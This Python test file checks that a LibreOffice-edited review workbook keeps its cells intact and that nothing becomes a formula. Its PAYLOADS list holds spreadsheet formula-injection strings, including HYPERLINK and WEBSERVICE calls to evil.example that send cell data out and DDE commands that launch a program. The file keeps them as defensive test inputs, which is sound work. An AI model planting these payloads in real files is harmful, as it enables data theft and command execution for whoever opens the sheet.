"""A review workbook that a real LibreOffice opened, typed into and saved comes back as it went out, and as typed."""

import csv
import io
import random
import shutil
import subprocess
import zipfile
from html import escape

import openpyxl
import pytest

from ascn_nlp.errors import ReviewError
from ascn_nlp.review.cells import shield
from ascn_nlp.review.columns import COLUMNS, DECISIONS
from ascn_nlp.review.rows import Row
from ascn_nlp.review.sheets import read_sheet
from ascn_nlp.review.workbook import write_workbook

pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]

OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# What begins a formula, in the ways it is hidden from a simple check.
PAYLOADS = [f"{lead}{sign}1+1" for sign in "=+-@＝＋－＠" for lead in ("", " ", "\t", "\n", "'", "\u00a0", "\u200b")]
PAYLOADS += [
    *('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example")'),
    *("\r=1+1", "''=1+1", "=1+1\n=1+1", "-2.5", "+62 21 555", '=DDE("cmd";"/C calc";"x")', "@SUM(1+9)*cmd|' /C'!A0"),
]
TEXTS = [
    *PAYLOADS,
    'Two lines,\nwith “quotes”, a "straight" one; and a semicolon',
    *("00123", "1/2", "2021-03-14", "TRUE", "1e10", "1.50", "#N/A", "12:30"),
    *("ผู้พักอาศัย · Đà Nẵng · ខ្មែរ", "'single quoted'", "trailing blank ", "  three   blanks  ", "a\ttab", "😀"),
    *("_x000D_", "_x005F_x0041_ and on", "<r>x</r>", "&amp; <b>", "a\r\nb", "one\x01two"),
]
URL = "https://city.example/a%20report.pdf?page=2#part-3"
# Row and column, as counted from 0, and what is typed there with the cell selected.
TYPED = [
    *(
        (1, "decision", "accept"),
        (1, "note", "1-2"),
        (1, "reviewer", "007"),
        (2, "note", "=1+1"),
        (2, "reviewer", "1/2"),
    ),
    *((3, "note", "2021-03-14"), (3, "reviewer", "1e5"), (4, "note", "Về “dữ liệu”, & <more>")),
]
FILTERS = {"xlsx": "Calc MS Excel 2007 XML", "ods": "calc8", "csv": "Text - txt - csv (StarCalc)"}
MODULE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">
<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">
{}
</script:module>
"""


def rows():
    for number, text in enumerate(TEXTS):
        cells = {"passage_id": f"p{number:016x}", "concern": "surveillance", "url": URL}
        cells |= {"quote": text, "why": text, "note": text if number > 3 else "", "doc_title": text}
        yield Row(cells, ((1, 3), (4, 5)))


def macro(folder) -> str:
    """A program in the language of LibreOffice that types as a person does, and saves in each format."""

    def text(value: str) -> str:
        return '"' + value.replace('"', '""') + '"'

    def stored(name: str, kind: str, *more: tuple[str, str]) -> list[str]:
        given = [("FilterName", FILTERS[kind]), *more]
        sets = [f"s({n}).Name = {text(key)} : s({n}).Value = {text(value)}" for n, (key, value) in enumerate(given)]
        return [
            f"ReDim s({len(given) - 1}) As New com.sun.star.beans.PropertyValue",
            *sets,
            f"doc.storeToURL({text((folder / f'{name}.{kind}').as_uri())}, s())",
        ]

    lines = [
        "Sub Main",
        "Dim h(0) As New com.sun.star.beans.PropertyValue",
        "Dim a(0) As New com.sun.star.beans.PropertyValue",
        "Dim s() As New com.sun.star.beans.PropertyValue",
        'h(0).Name = "Hidden" : h(0).Value = False',
        f'doc = StarDesktop.loadComponentFromURL({text((folder / "review.xlsx").as_uri())}, "_blank", 0, h())',
        'sheet = doc.Sheets.getByName("review")',
        "frame = doc.CurrentController.Frame",
        'dispatcher = createUnoService("com.sun.star.frame.DispatchHelper")',
    ]
    for row, column, value in TYPED:
        lines += [
            f"cell = sheet.getCellByPosition({COLUMNS.index(column)}, {row})",
            "doc.CurrentController.select(cell)",
            f'a(0).Name = "StringName" : a(0).Value = {text(value)}',
            'dispatcher.executeDispatch(frame, ".uno:EnterString", "", 0, a())',
        ]
    lines += [line for kind in ("xlsx", "ods") for line in stored("saved", kind)]
    lines += stored("saved", "csv", ("FilterOptions", "44,34,76,1,,0,false,true,false,false,false"))
    lines += stored("locked", "ods", ("Password", "secret"))
    return "\n".join([*lines, "doc.close(True)", "End Sub"])


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    """The folder with the workbook as LibreOffice saved it, in each format, once typed into."""
    if OFFICE is None:
        pytest.skip("LibreOffice is not installed: apt-get install libreoffice-calc")
    folder = tmp_path_factory.mktemp("office")
    with (folder / "review.xlsx").open("wb") as file:
        write_workbook(file, COLUMNS, rows(), {"decision": DECISIONS, "concern_reviewed": ["surveillance", "debt"]})
    office(folder, "--convert-to", "pdf", "--outdir", str(folder), "review.xlsx")  # makes the profile, for one
    module = folder / "profile" / "user" / "basic" / "Standard" / "Module1.xba"
    module.write_text(MODULE.format(escape(macro(folder))), encoding="utf-8")
    office(folder, "macro:///Standard.Module1.Main")
    return folder


def office(folder, *arguments):
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [OFFICE, profile, "--headless", "--norestore", *arguments]
    subprocess.run(command, cwd=folder, check=True, capture_output=True, timeout=240)


def sheet_of(saved, kind):
    content = (saved / f"saved.{kind}").read_bytes()
    if kind == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
    return read_sheet(content)


def expected(kind):
    """The cells as written, with what was typed, and with what LibreOffice changes in the format."""
    table = [list(COLUMNS), *([shield(row.cells.get(name, "")) for name in COLUMNS] for row in rows())]
    for row, column, value in TYPED:
        table[row][COLUMNS.index(column)] = value
    return [[changed(cell, kind) for cell in cells] for cells in table]


def changed(cell, kind):
    # A return before a new line goes in any format, tabs and what XML 1.0 cannot hold in ODS.
    cell = cell.replace("\r\n", "\n")
    if kind == "ods":
        return cell.replace("\t", "").replace("\x01", "")
    # LibreOffice, unlike us, writes the second of two such marks that share a sign so that it is read as a letter.
    return cell.replace("_x005F_x0041_", "_x0041_") if kind == "xlsx" else cell


@pytest.mark.parametrize("kind", FILTERS)
def test_every_cell_comes_back_as_it_went_out_and_as_it_was_typed(saved, kind):
    for number, (back, cells) in enumerate(zip(sheet_of(saved, kind), expected(kind), strict=True)):
        assert dict(zip(COLUMNS, back, strict=True)) == dict(zip(COLUMNS, cells, strict=True)), number


def test_nothing_became_a_formula(saved):
    book = openpyxl.load_workbook(saved / "saved.xlsx")
    assert not [cell.coordinate for row in book["review"].rows for cell in row if cell.data_type not in ("s", "n")]
    assert not [cell.coordinate for row in book["review"].rows for cell in row if cell.data_type == "n" and cell.value]
    for kind, part, mark in (("xlsx", "xl/worksheets/sheet1.xml", b"<f"), ("ods", "content.xml", b"table:formula")):
        with zipfile.ZipFile(saved / f"saved.{kind}") as packed:
            assert mark not in packed.read(part).replace(b"<formula", b"")


def test_lists_links_and_bold_words_are_still_there(saved):
    sheet = openpyxl.load_workbook(saved / "saved.xlsx", rich_text=True)["review"]
    assert {str(rule.sqref) for rule in sheet.data_validations.dataValidation} == {
        f"{letter}2:{letter}{len(TEXTS) + 1}" for letter in "AB"
    }
    assert sheet.freeze_panes == "F2"
    assert sheet.cell(2, COLUMNS.index("url") + 1).hyperlink.target.startswith("https://city.example/")
    quote = sheet.cell(2 + TEXTS.index("trailing blank "), COLUMNS.index("quote") + 1).value
    assert [str(part) for part in quote if not isinstance(part, str) and part.font.b] == ["ra", "l"]


def test_a_file_saved_with_a_password_says_so(saved):
    with pytest.raises(ReviewError, match="password"):
        read_sheet((saved / "locked.ods").read_bytes())


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_a_damaged_file_is_rows_or_a_review_error(saved, kind):
    content = (saved / f"saved.{kind}").read_bytes()
    draw = random.Random(5)
    refused = 0
    for number in range(150):
        changed = bytearray(content)
        for _ in range((1, 5, 50, 500)[number % 4]):
            # Half of the changes at the beginning, where the first part says how it is packed.
            changed[draw.randrange(len(changed) if number % 2 else 4096)] = draw.choice((0, 255, draw.randrange(256)))
        try:
            read_sheet(bytes(changed[: draw.randrange(len(changed))] if number % 3 == 0 else changed))
        except ReviewError as error:
            assert error.remedy
            refused += 1
    assert refused > 20
